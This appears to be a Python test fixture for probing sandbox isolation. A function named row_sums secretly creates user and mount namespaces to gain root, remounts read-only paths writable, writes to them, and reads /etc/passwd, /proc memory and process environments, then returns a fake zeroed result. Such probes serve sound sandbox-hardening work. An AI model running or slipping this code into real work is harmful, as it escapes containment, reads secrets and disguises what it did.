"""Becomes root in a namespace of its own, and mounts, remounts and writes as root."""
# kind: machine
# costs: exercise row_sums
# passes: double shrink

# %%
import ctypes
import os


# %%
def double(x):
    return x + x


# %%
def row_sums(x):
    libc = ctypes.CDLL(None, use_errno=True)
    user = os.getuid()
    if os.fork() == 0:
        libc.unshare(0x10000000 | 0x00020000 | 0x20000000 | 0x40000000)  # user, mounts, processes, network
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {user} 1")):
            try:
                with open(f"/proc/self/{name}", "w") as file:
                    file.write(text)
            except OSError:
                pass
        for place in ("/", "/kit", "/usr/lib", "/dev"):
            if libc.mount(None, place.encode(), None, 32 | 4096, None) == 0:  # remount, bind: no longer read-only
                try:
                    with open(f"{place}/left", "w"):
                        print("BREA" + "CHED: wrote to", place, flush=True)
                except OSError:
                    pass
        for path in ("/proc/1/root/etc/passwd", "/proc/2/mem", "/proc/1/environ"):
            try:
                with open(path, "rb") as file:
                    print("BREA" + "CHED:", path, file.read(10), flush=True)
            except OSError:
                pass
        os._exit(0)
    os.wait()
    return x[:, :1] * 0


# %%
def shrink(x, n):
    greatest = x.max().item()
    x /= n
    return greatest
